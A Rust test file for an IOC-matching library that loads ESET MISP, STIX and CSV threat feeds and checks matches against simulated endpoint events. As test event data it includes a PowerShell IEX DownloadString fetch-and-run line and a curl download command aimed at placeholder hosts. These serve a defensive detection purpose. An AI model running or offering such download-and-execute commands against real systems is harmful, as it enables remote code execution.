//! Feed loading and matching on real data: the ESET MISP events in
//! `../shared/corpora/ioc/eset-misp` (eset/malware-ioc f9c1102, BSD-2), the MISP galaxy in
//! `../shared/corpora/misp-galaxy` (MISP/misp-galaxy 9434ace4, CC0/BSD-2), plus the STIX 2.1
//! and CSV fixtures in `tests/fixtures` (see its README). Corpus tests skip with a message when
//! the corpora are not beside the project.

use std::path::{Path, PathBuf};

use tracehunt_event::{Event, EventMeta, Value};
use tracehunt_ioc::{FeedFormat, IocError, IocKind, IocSet};

fn corpora() -> Option<PathBuf> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpora");
    if p.join("ioc/eset-misp").is_dir() {
        Some(p)
    } else {
        eprintln!("skipping: ../shared/corpora/ioc/eset-misp not found");
        None
    }
}

fn fixture(name: &str) -> String {
    std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/fixtures")
            .join(name),
    )
    .expect("fixture")
}

fn event(fields: &[(&str, &str)]) -> Event {
    let mut ev = Event::with_meta(EventMeta::default());
    for (k, v) in fields {
        ev.push(*k, Value::from(*v));
    }
    ev
}

#[test]
fn eset_turla_mosquito_event() {
    let Some(c) = corpora() else { return };
    let path = c.join("ioc/eset-misp/turla__misp-mosquito-event.json");
    let text = std::fs::read_to_string(&path).unwrap();
    let mut b = IocSet::builder();
    let r = b.load(&text, "mosquito").unwrap();
    assert_eq!(r.format, Some(FeedFormat::Misp));
    assert_eq!(r.entries, 1);
    // 12 `sha1` + 3 `filename|sha1`; 21 `url` attributes of which 14 are bare host names.
    assert_eq!(r.loaded[&IocKind::Sha1], 15);
    assert_eq!(r.loaded[&IocKind::Url], 7);
    assert_eq!(r.loaded[&IocKind::Domain], 14);
    assert_eq!(r.skipped["text"], 23);
    assert_eq!(r.skipped["uri"], 1);
    assert_eq!(r.actors, ["Turla Group"]);
    let set = b.build();
    let ioc = set
        .iocs()
        .iter()
        .find(|i| i.value == "f5abfb972495fde3d4fb3c825c3bbc437aab6c3a")
        .unwrap();
    let o = &ioc.origins[0];
    assert_eq!(o.source.id, "5a5395d1-40a0-45fc-b692-334a0a016219");
    assert_eq!(
        o.source.title.as_deref(),
        Some("Turla: Mosquito Whitepaper")
    );
    let actor = &o.actors[0];
    assert_eq!(actor.name, "Turla Group");
    // The event's own galaxy synonyms come first: "Turla" is the ATT&CK name of G0010.
    assert_eq!(actor.aliases[0], "Turla");

    // A Sysmon 1 `Hashes` field carrying that SHA-1 (upper-case, among other hashes).
    let ev = event(&[
        ("Image", "C:\\Users\\Public\\a.exe"),
        (
            "Hashes",
            "MD5=0123456789ABCDEF0123456789ABCDEF,SHA1=F5ABFB972495FDE3D4FB3C825C3BBC437AAB6C3A,IMPHASH=00000000000000000000000000000000",
        ),
    ]);
    let hits = set.matches(&ev);
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].field, "Hashes");
    assert_eq!(hits[0].kind, IocKind::Sha1);
    assert_eq!(hits[0].actors[0].name, "Turla Group");
    // A bare domain filed as `url`, seen in a DNS query for a subdomain.
    let hits = set.matches(&event(&[("QueryName", "www.smallcloud.ga")]));
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(hits[0].value, "smallcloud.ga");
    assert!(set
        .matches(&event(&[("QueryName", "notsmallcloud.ga")]))
        .is_empty());
}

#[test]
fn all_eset_events_load() {
    let Some(c) = corpora() else { return };
    let mut files: Vec<PathBuf> = std::fs::read_dir(c.join("ioc/eset-misp"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "json"))
        .collect();
    files.sort();
    assert_eq!(files.len(), 59);
    let mut b = IocSet::builder();
    let mut events = 0;
    let mut loaded = 0;
    let mut with_actor = Vec::new();
    let mut rejected = Vec::new();
    let mut repaired = Vec::new();
    for f in &files {
        let text = std::fs::read_to_string(f).unwrap();
        let name = f.file_name().unwrap().to_string_lossy().into_owned();
        match b.load(&text, &name) {
            Ok(r) => {
                events += r.entries;
                loaded += r.total();
                if !r.actors.is_empty() {
                    with_actor.push((name.clone(), r.actors.clone()));
                }
                if r.diagnostics.iter().any(|d| d.contains("repaired")) {
                    repaired.push(name);
                }
            }
            Err(e) => {
                assert!(matches!(e, IocError::NotAFeed { .. }), "{e}");
                rejected.push(name);
            }
        }
    }
    // 59 files: 58 MISP events and a DNS block list that is not one; one export has a
    // trailing comma.
    assert_eq!(
        rejected,
        ["dnsbirthday__rqz-dnsduvel_blocklist.json"],
        "rejected"
    );
    assert_eq!(
        repaired,
        ["pypi_backdoor__malicious_pypi_packages.misp-event.json"]
    );
    assert_eq!(events, 58);
    let set = b.build();
    eprintln!(
        "ESET MISP: {events} events, {loaded} IOC entries, {} distinct IOCs {:?}, {} events with actors",
        set.len(),
        set.counts(),
        with_actor.len()
    );
    let actors: Vec<&str> = with_actor
        .iter()
        .flat_map(|(_, a)| a.iter().map(String::as_str))
        .collect();
    for a in [
        "Turla Group",
        "Sofacy",
        "APT32",
        "APT 29",
        "TeleBots",
        "Lazarus Group",
        "El Machete",
        "InvisiMole",
        "Axiom",
        "Ebury",
    ] {
        assert!(actors.contains(&a), "{a} not found in {actors:?}");
    }
    assert_eq!(with_actor.len(), 20);
    assert!(loaded > 3000, "{loaded}");
}

#[test]
fn stix_fixture() {
    let mut b = IocSet::builder();
    let r = b
        .load(&fixture("stix21-indicators.json"), "fixture.json")
        .unwrap();
    assert_eq!(r.format, Some(FeedFormat::Stix));
    assert_eq!(r.entries, 6);
    assert_eq!(r.loaded[&IocKind::Ip], 4);
    assert_eq!(r.loaded[&IocKind::Sha256], 1);
    assert_eq!(r.loaded[&IocKind::Md5], 1);
    assert_eq!(r.loaded[&IocKind::Domain], 2);
    assert_eq!(r.loaded[&IocKind::Url], 1);
    assert_eq!(r.skipped["unsupported pattern"], 1);
    assert_eq!(r.diagnostics.len(), 1);
    assert!(
        r.diagnostics[0].starts_with("indicator--e2e1a340-4415-4ba8-9671-f7343fbf0836:")
            && r.diagnostics[0].contains("windows-registry-key:key is not supported"),
        "{}",
        r.diagnostics[0]
    );
    assert_eq!(r.actors, ["Bobcat Breakin", "Turla"]);
    let set = b.build();

    // Hash → Bobcat Breakin (indicates the intrusion set).
    let h = set.matches(&event(&[(
        "Hashes",
        "SHA256=4BAC27393BDD9777CE02453256C5577CD02275510B2227F473D03F533924F877",
    )]));
    assert_eq!(h.len(), 1);
    assert_eq!(h[0].actors[0].name, "Bobcat Breakin");
    assert_eq!(h[0].sources[0].title.as_deref(), Some("Poison Ivy Malware"));

    // Exact address and CIDR: one hit each, both Turla G0010.
    let h = set.matches(&event(&[("DestinationIp", "198.51.100.1")]));
    assert_eq!(h.len(), 2, "{h:?}");
    assert!(h
        .iter()
        .all(|x| x.actors.is_empty() || x.actors[0].attack_id.as_deref() == Some("G0010")));
    let h = set.matches(&event(&[("SourceIp", "::ffff:198.51.100.200")]));
    assert_eq!(h.len(), 1);
    assert_eq!(h[0].value, "198.51.100.0/24");
    let h = set.matches(&event(&[(
        "DestinationIp",
        "2001:db8:dead:beef:dead:beef:dead:1",
    )]));
    assert_eq!(h.len(), 1);
    assert!(set
        .matches(&event(&[("DestinationIp", "198.51.101.1")]))
        .is_empty());

    // AND: the domain alone is not a hit; domain + MD5 in one event is.
    assert!(set
        .matches(&event(&[("QueryName", "c2.example.net")]))
        .is_empty());
    let h = set.matches(&event(&[
        ("QueryName", "c2.example.net"),
        ("Hashes", "MD5=79054025255FB1A26E4BC422AEF54EB4"),
    ]));
    assert_eq!(h.len(), 2);
    // OR branch: the URL alone hits, in a command line.
    let h = set.matches(&event(&[(
        "CommandLine",
        "curl.exe -o x http://EXAMPLE.com/foo",
    )]));
    assert_eq!(h.len(), 1);
    assert_eq!(h[0].matched, "http://EXAMPLE.com/foo");
    assert!(set
        .matches(&event(&[("CommandLine", "curl http://example.com/food")]))
        .is_empty());
    // Campaign attributed-to an intrusion set.
    let h = set.matches(&event(&[("DestinationHostname", "green.example.org")]));
    assert_eq!(h[0].actors[0].name, "Bobcat Breakin");
}

#[test]
fn csv_fixture() {
    let mut b = IocSet::builder();
    let r = b.load(&fixture("iocs.csv"), "iocs.csv").unwrap();
    assert_eq!(r.format, Some(FeedFormat::Csv));
    assert_eq!(r.entries, 9);
    assert_eq!(r.total(), 7);
    assert_eq!(r.skipped["filename"], 1);
    assert_eq!(r.skipped["invalid sha1"], 1);
    assert_eq!(r.diagnostics.len(), 2);
    assert_eq!(r.actors, ["APT29", "G0010", "Sofacy", "Turla Group"]);
    let set = b.build();
    let h = set.matches(&event(&[
        ("IpAddress", "192.0.2.55"),
        ("DestinationPort", "443"),
    ]));
    assert_eq!(h.len(), 1);
    assert!(h[0].actors.is_empty());
    let h = set.matches(&event(&[("DestinationHostname", "C2.Example.NET")]));
    assert_eq!(h[0].actors[0].attack_id.as_deref(), Some("G0010"));
    let h = set.matches(&event(&[(
        "ScriptBlockText",
        "IEX (New-Object Net.WebClient).DownloadString('http://example.org/payload.ps1')",
    )]));
    assert_eq!(h.len(), 1);
    let h = set.matches(&event(&[("CommandLine", "ping 198.51.100.7")]));
    assert_eq!(h[0].actors[0].name, "Turla Group");
    assert!(set
        .matches(&event(&[("CommandLine", "ping 198.51.100.71")]))
        .is_empty());
}

#[test]
fn non_feeds_are_rejected() {
    let mut b = IocSet::builder();
    let e = b.load(r#"{"foo": 1}"#, "x.json").unwrap_err();
    assert!(e.to_string().contains("not an IOC feed"), "{e}");
    let e = b.load(r#"{"foo": "#, "y.json").unwrap_err();
    assert!(e.to_string().starts_with("y.json: invalid JSON"), "{e}");
}

#[test]
fn embedded_alias_table_matches_the_galaxy() {
    let Some(c) = corpora() else { return };
    let g = c.join("misp-galaxy");
    let built = tracehunt_ioc::build_alias_table(
        &std::fs::read_to_string(g.join("threat-actor.json")).unwrap(),
        &std::fs::read_to_string(g.join("mitre-intrusion-set.json")).unwrap(),
    )
    .unwrap();
    assert!(
        built == tracehunt_ioc::ALIAS_TABLE,
        "regenerate: cargo run -p tracehunt-ioc --example make-alias-table -- ../shared/corpora/misp-galaxy crates/ioc/data/misp-threat-actor-attack.tsv"
    );
}

/// CI fuzz smoke finding (stix_bundle): the harness took every diagnostic for an
/// "unsupported pattern" skip, but an indicator whose OR-clause names an unusable network
/// loads with that clause dropped (one diagnostic, no skip) and one with every clause
/// unusable is skipped under the network's reason. The accounting the harness now checks:
/// diagnostics = skipped indicators (any reason) + indicators loaded with clauses dropped.
/// Input reduced from the crash artifact.
#[test]
fn fuzz_stix_bundle_dropped_or_clause_is_a_diagnostic_not_a_skip() {
    let bundle = r#"{"type": "bundle", "id": "bundle--1", "objects": [
      {"type": "indicator", "id": "indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f",
       "pattern_type": "stix", "pattern": "[ file:hashes.'SHA-799' = '4bac2739' ]"},
      {"type": "indicator", "id": "indicator--a932fcc6-e032-476c-826f-cb970a5a1ade",
       "pattern_type": "stix",
       "pattern": "[ipv4-addr:value = '198.51.100.1/02' OR ipv4-addr:value = '203.0.113.33/32']"},
      {"type": "indicator", "id": "indicator--00000000-0000-4000-8000-000000000003",
       "pattern_type": "stix", "pattern": "[ipv4-addr:value = '10.1.2.3']"}
    ]}"#;
    let mut b = IocSet::builder();
    let r = b.load(bundle, "fuzz.json").unwrap();
    assert_eq!(r.entries, 3);
    assert_eq!(r.loaded[&IocKind::Ip], 1, "only 203.0.113.33: {r:?}");
    assert_eq!(r.skipped["unsupported pattern"], 1, "{r:?}");
    assert_eq!(r.skipped["ipv4: non-routable address"], 1, "{r:?}");
    assert_eq!(r.skipped.values().sum::<usize>(), 2, "{r:?}");
    assert_eq!(r.diagnostics.len(), 3, "{r:?}");
    assert_eq!(
        r.diagnostics[1],
        "indicator--a932fcc6-e032-476c-826f-cb970a5a1ade: pattern `[ipv4-addr:value = \
         '198.51.100.1/02' OR ipv4-addr:value = '203.0.113.33/32']`: 1 of its OR-clauses dropped \
         (ipv4: network wider than /8)"
    );
}

/// Breaker finding: the STIX pattern `[ipv4-addr:value ISSUBSET '0.0.0.0/0']` loaded as an
/// IOC matching every address, while the CSV feed refused `/0`. Both now refuse it the same
/// way, counted as unusable with the reason; a private address in one OR-clause drops only
/// that clause.
#[test]
fn stix_issubset_everything_is_refused_like_the_csv_feed() {
    let bundle = r#"{"type": "bundle", "id": "bundle--1", "objects": [
      {"type": "indicator", "id": "indicator--00000000-0000-4000-8000-000000000001",
       "pattern_type": "stix", "pattern": "[ipv4-addr:value ISSUBSET '0.0.0.0/0']"},
      {"type": "indicator", "id": "indicator--00000000-0000-4000-8000-000000000002",
       "pattern_type": "stix", "pattern": "[ipv6-addr:value ISSUBSET '::/0']"},
      {"type": "indicator", "id": "indicator--00000000-0000-4000-8000-000000000003",
       "pattern_type": "stix",
       "pattern": "[ipv4-addr:value = '10.0.0.5' OR ipv4-addr:value = '185.12.1.7']"}
    ]}"#;
    let mut b = IocSet::builder();
    let r = b.load(bundle, "wide.json").unwrap();
    assert_eq!(r.entries, 3);
    assert_eq!(r.skipped["ipv4: network wider than /8"], 1);
    assert_eq!(r.skipped["ipv6: network wider than /16"], 1);
    assert_eq!(r.loaded[&IocKind::Ip], 1, "only 185.12.1.7");
    assert!(
        r.diagnostics[0].starts_with("indicator--00000000-0000-4000-8000-000000000001: pattern")
            && r.diagnostics[0].ends_with("not loaded: ipv4: network wider than /8"),
        "{:?}",
        r.diagnostics
    );
    assert!(r.diagnostics[2].contains("1 of its OR-clauses dropped (ipv4: non-routable address)"));
    let set = b.build();
    assert!(set
        .matches(&event(&[("DestinationIp", "8.8.8.8")]))
        .is_empty());
    assert!(set
        .matches(&event(&[("DestinationIp", "10.0.0.5")]))
        .is_empty());
    assert_eq!(
        set.matches(&event(&[("DestinationIp", "185.12.1.7")]))
            .len(),
        1
    );
    // The CSV feed: same reason, same count.
    let mut b = IocSet::builder();
    let r = b
        .load("type,value\nip-dst,0.0.0.0/0\n", "wide.csv")
        .unwrap();
    assert_eq!(r.skipped["ip-dst: network wider than /8"], 1);
    assert_eq!(b.build().len(), 0);
}

/// Fuzz finding (ioc_csv, session 5, input `::`): the harness asserted that
/// `load_csv` always reports `FeedFormat::Csv`, but a type-less text is a
/// plain list (here one IPv6 address, skipped as non-routable) and is
/// reported as `FeedFormat::List`, as documented on `load_csv`.
#[test]
fn fuzz_ioc_csv_bare_ipv6_is_a_plain_list_not_csv() {
    let mut b = IocSet::builder();
    let r = b.load_csv("::", "fuzz.csv").unwrap();
    assert_eq!(r.format, Some(FeedFormat::List));
    assert_eq!(r.entries, 1);
    assert_eq!(r.skipped["ip: non-routable address"], 1);
    let mut b = IocSet::builder();
    let r = b.load_csv("ip,203.0.113.7\n", "fuzz.csv").unwrap();
    assert_eq!(r.format, Some(FeedFormat::Csv));
}
